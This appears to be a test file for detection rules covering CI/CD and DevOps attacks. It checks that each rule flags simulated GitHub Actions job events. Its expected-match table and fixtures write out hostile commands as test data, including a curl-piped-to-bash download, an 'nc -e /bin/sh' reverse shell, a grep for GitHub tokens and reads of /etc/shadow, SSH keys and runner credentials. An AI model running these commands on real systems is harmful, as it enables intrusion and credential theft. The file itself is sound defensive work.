// Every shipped rule on a writer-made capture of a GitHub Actions job: each rule matches exactly the
// attack events meant for it and none of the benign look-alikes next to them. Event kinds the writer
// cannot produce (ptrace, dup2, unix-socket connect, accept) are checked on ScapEvents built as the
// reader delivers them.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseCaptureDescription, writeCapture } from '../../../src/scap/writer/index.ts';
import { readCapture } from '../../../src/scap/index.ts';
import { compileOutput, isInternalEvent } from '../../../src/filter/index.ts';
import { loadRuleFiles, type RuleSet } from '../../../src/rules/index.ts';
import { captureContext, runRulesOnCapture } from '../../../src/rules/run.ts';
import { event, thread } from '../filter/events.ts';
import type { FdState } from '../../../src/scap/model.ts';

import { CONTAINER, job, TEMP, WS } from './job.ts';
import { repoPath } from '../../support/env.ts';

/** Per rule: what it must match, as "proc.name evt.type fd.name-or-cmdline" keys, in capture order. */
const EXPECTED: Record<string, string[]> = {
  'Source Code Overwrite': [`sed openat ${WS}/src/main.c`, `python3 openat ${WS}/.github/workflows/ci.yml`],
  'Possible Workflow File Overwrite': [`python3 openat ${WS}/.github/workflows/ci.yml`],
  'Git Pushing to Repository': ['git execve git push origin HEAD:main'],
  'Process Reading Environment Variables of Others': ['python3 openat /proc/100/environ'],
  'Process Dumping Memory of Others': ['python3 openat /proc/100/mem'],
  'Process Memory Access via ptrace': [],
  'Suspicious Process Reading GitHub Token': [`node openat ${WS}/.git/config`, `python3 openat ${TEMP}/git-credentials-1f2e3d.config`],
  'Grep Looking for GitHub Secrets': ['grep execve grep -rao ghs_[A-Za-z0-9]* /tmp/dump'],
  'Unexpected Write to Runner File Commands': [`node openat ${TEMP}/_runner_file_commands/set_env_0a1b`],
  'Read of Runner Credential Files': ['cat openat /home/runner/runners/2.320.0/.credentials'],
  'Downloader Piped Into Shell': ['sh execve sh', 'bash execve bash -c curl -fsSL https://get.example.sh | bash'],
  'Reverse Shell': ['bash connect 10.1.0.4:40100->203.0.113.5:4444'],
  'Outbound Connection From Unexpected Interpreter': ['perl connect 10.1.0.4:40102->198.51.100.7:443'],
  'Docker Socket Access From Build': ['python3 openat /var/run/docker.sock'],
  'Jenkins Unexpected Process': ['nc execve nc -e /bin/sh 203.0.113.5 4444'],
  'Harbor Push From Unknown IP': [],
  'SonarQube Spawning a Shell': ['sh execve sh -c id'],
  'Container Reading Sensitive Host Files': ['postgres openat /etc/shadow', 'postgres openat /root/.ssh/id_rsa'],
};

let dir: string;
let capture: string;
let rules: RuleSet;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'falco-actions-packs-'));
  capture = join(dir, 'job.scap');
  await writeCapture(parseCaptureDescription(job, 'packs job'), capture);
  rules = await loadRuleFiles([repoPath('rules/falco_cicd_rules.yaml'), repoPath('rules/devops_toolchain_rules.yaml')]);
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

test('both packs load without problems', () => {
  assert.deepEqual(rules.problems, []);
  assert.deepEqual(rules.rules.map((rule) => rule.name).sort(), Object.keys(EXPECTED).sort());
  for (const rule of rules.rules) {
    assert.ok(rule.tags.some((tag) => /^T\d{4}(\.\d{3})?$/.test(tag)), `${rule.name} has a MITRE ATT&CK technique tag`);
    assert.match(rule.desc, /false positives/i, `${rule.name} names its expected false positives`);
    assert.match(rule.desc, /tune with the (list|macro)/, `${rule.name} names what to tune`);
    assert.match(rule.output, /%proc\.cmdline|%proc\.pcmdline/, `${rule.name} output carries a command line`);
  }
});

test('every rule matches exactly its attack events on the job capture', async () => {
  const key = compileOutput('%proc.name %evt.type %fd.name');
  const execKey = compileOutput('%proc.name %evt.type %proc.cmdline');
  const context = await captureContext(capture);
  const matched = new Map<string, string[]>(rules.rules.map((rule) => [rule.name, []]));
  await readCapture(capture, (scapEvent) => {
    if (isInternalEvent(scapEvent)) return;
    for (const rule of rules.rules) {
      if (rule.predicate?.(scapEvent, context) === true) {
        matched.get(rule.name)?.push((scapEvent.name === 'execve' ? execKey : key)(scapEvent, context));
      }
    }
  });
  const wrong = Object.entries(EXPECTED)
    .filter(([name, expected]) => JSON.stringify(matched.get(name)) !== JSON.stringify(expected))
    .map(([name, expected]) => `${name}: expected ${JSON.stringify(expected)}, matched ${JSON.stringify(matched.get(name))}`);
  assert.deepEqual(wrong, []);
});

test('rules test reports enabled rules only unless asked, with outputs filled in', async () => {
  const report = await runRulesOnCapture(rules, capture);
  const source = report.rules.find((rule) => rule.rule === 'Source Code Overwrite');
  assert.equal(source?.enabled, false);
  assert.equal(source?.matches, 0, 'a disabled rule is listed but not evaluated');
  const memory = report.rules.find((rule) => rule.rule === 'Process Dumping Memory of Others');
  assert.equal(memory?.matches, 1);
  assert.match(memory?.events[0]?.output ?? '', /^python3 read the memory of another process \(file=\/proc\/100\/mem process=python3 pid=230 .*parent=bash gparent=Runner.Worker ggparent=Runner.Listener gggparent=systemd user=runner /);
  const all = await runRulesOnCapture(rules, capture, { includeDisabled: true });
  assert.equal(all.rules.find((rule) => rule.rule === 'Source Code Overwrite')?.matches, 2);
});

// --- event kinds the writer cannot make ------------------------------------------------------------------

function predicateOf(name: string) {
  const rule = rules.rules.find((candidate) => candidate.name === name);
  assert.ok(rule?.predicate, name);
  return rule.predicate;
}

const worker = thread({ tid: 100, comm: 'Runner.Worker', ptid: 50 });
const step = thread({ tid: 200, comm: 'bash', ptid: 100 });
const py = thread({ tid: 230, comm: 'python3', ptid: 200 });
const strace = thread({ tid: 231, comm: 'strace', ptid: 200 });
const table = [worker, step, py, strace];

test('ptrace: a successful attach by a non-debugger matches; debuggers and failures do not', () => {
  const matches = predicateOf('Process Memory Access via ptrace');
  const ptrace = (who: typeof py, res: number) => event({ symbol: 'SYSCALL_PTRACE_X', thread: who, table, params: { res, request: 16, pid: 100 } });
  assert.equal(matches(ptrace(py, 0)), true);
  assert.equal(matches(ptrace(strace, 0)), false);
  assert.equal(matches(ptrace(py, -1)), false);
});

test('reverse shell: dup2 of a TCP socket onto stdin matches; dup2 of a file does not', () => {
  const matches = predicateOf('Reverse Shell');
  const socket: FdState = { num: 3, kind: 'ipv4', typechar: '4', name: '10.1.0.4:40100->203.0.113.5:4444', l4proto: 'tcp', client: { ip: '10.1.0.4', port: 40100 }, server: { ip: '203.0.113.5', port: 4444 }, role: 'client' };
  const file: FdState = { num: 3, kind: 'file', typechar: 'f', name: '/tmp/log' };
  assert.equal(matches(event({ symbol: 'SYSCALL_DUP2_X', thread: step, table, fd: socket, params: { res: 0, oldfd: 3, newfd: 0 } })), true);
  assert.equal(matches(event({ symbol: 'SYSCALL_DUP2_X', thread: step, table, fd: file, params: { res: 1, oldfd: 3, newfd: 1 } })), false);
  assert.equal(matches(event({ symbol: 'SYSCALL_DUP2_X', thread: step, table, fd: socket, params: { res: 5, oldfd: 3, newfd: 5 } })), false);
});

test('docker socket: a unix connect by a non-client matches; by the docker CLI it does not', () => {
  const matches = predicateOf('Docker Socket Access From Build');
  const sock: FdState = { num: 4, kind: 'unix', typechar: 'u', name: '/var/run/docker.sock' };
  const docker = thread({ tid: 296, comm: 'docker', ptid: 200 });
  assert.equal(matches(event({ symbol: 'SOCKET_CONNECT_X', thread: py, table, fd: sock, params: { res: 0, fd: 4 } })), true);
  assert.equal(matches(event({ symbol: 'SOCKET_CONNECT_X', thread: docker, table: [...table, docker], fd: sock, params: { res: 0, fd: 4 } })), false);
});

test('harbor: an accepted connection from outside the trusted networks matches', () => {
  const matches = predicateOf('Harbor Push From Unknown IP');
  const harbor = thread({ tid: 500, comm: 'registry', ptid: 1, containerId: CONTAINER });
  const accepted = (ip: string): FdState => ({ num: 7, kind: 'ipv4', typechar: '4', name: `${ip}:51000->172.18.0.3:5000`, l4proto: 'tcp', client: { ip, port: 51000 }, server: { ip: '172.18.0.3', port: 5000 }, role: 'server' });
  assert.equal(matches(event({ symbol: 'SOCKET_ACCEPT4_6_X', thread: harbor, fd: accepted('203.0.113.9'), params: { fd: 7 } })), true);
  assert.equal(matches(event({ symbol: 'SOCKET_ACCEPT4_6_X', thread: harbor, fd: accepted('10.0.0.5'), params: { fd: 7 } })), false);
  const other = thread({ tid: 501, comm: 'nginx', ptid: 1 });
  assert.equal(matches(event({ symbol: 'SOCKET_ACCEPT4_6_X', thread: other, fd: accepted('203.0.113.9'), params: { fd: 7 } })), false);
});
